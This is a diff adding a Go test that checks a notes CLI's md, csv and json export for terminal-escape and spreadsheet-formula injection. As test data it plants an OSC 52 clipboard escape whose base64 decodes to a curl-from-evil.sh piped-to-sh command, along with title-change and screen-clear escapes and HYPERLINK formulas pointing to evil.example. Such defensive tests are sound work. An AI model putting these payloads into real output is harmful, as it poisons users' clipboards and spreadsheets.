@@ -2,6 +2,8 @@ package main
 
 import (
 	"context"
+	"database/sql"
+	"encoding/csv"
 	"encoding/json"
 	"os"
 	"path/filepath"
@@ -268,4 +270,54 @@ func readFile(t *testing.T, path string) string {
 		t.Fatal(err)
 	}
 	return string(b)
+}
+
+// A database written before imports were checked may hold a note whose id
+// and section kind carry a clipboard write, a title change, a screen clear
+// and a spreadsheet formula. Exporting it puts none of that on the
+// terminal or live in a spreadsheet, in any format.
+func TestNotesExportOfHostileRows(t *testing.T) {
+	data := t.TempDir()
+	const sample = "2026-05-21-saltmarsh-desalination.md"
+	if r := runBin(t, nil, "notes", "add", sample, "--data", data, "a fine note"); r.code != 0 {
+		t.Fatalf("add: %d %s", r.code, r.stderr)
+	}
+	osc := "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07\x1b]0;pwned\x07\x1b[2J"
+	db, err := sql.Open("sqlite", notes.DefaultPath(data))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, row := range [][2]string{{osc + "id", "lead"}, {`=HYPERLINK("http://evil.example","x")`, `=HYPERLINK("http://evil.example","y")`}} {
+		if _, err := db.Exec(`INSERT INTO notes (id, owner, brief_id, section_kind, body, created, updated)
+			VALUES (?, ?, ?, ?, 'old row', 1, 1)`, row[0], notes.LocalOwner(), sample, row[1]); err != nil {
+			t.Fatal(err)
+		}
+	}
+	db.Close()
+	for _, format := range []string{"md", "csv", "json"} {
+		r := runBin(t, nil, "notes", "export", "--format", format, "--data", data)
+		if r.code != 0 || strings.Count(r.stdout, "old row") != 2 {
+			t.Fatalf("%s: %d %q\n%s", format, r.code, r.stderr, r.stdout)
+		}
+		if bad := unsafeTerminal(r.stdout, false); bad != "" {
+			t.Errorf("%s export prints %s:\n%q", format, bad, r.stdout)
+		}
+		if format != "csv" {
+			continue
+		}
+		rows, err := csv.NewReader(strings.NewReader(r.stdout)).ReadAll()
+		if err != nil || len(rows) != 4 {
+			t.Fatalf("CSV: %q, %v", rows, err)
+		}
+		for _, row := range rows[1:] {
+			for i, cell := range row {
+				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+					t.Errorf("CSV column %s is a live formula: %q", rows[0][i], cell)
+				}
+			}
+		}
+	}
+	if r := runBin(t, nil, "notes", "list", "--data", data); r.code != 0 || unsafeTerminal(r.stdout, false) != "" {
+		t.Errorf("list: %d %q", r.code, r.stdout)
+	}
 }
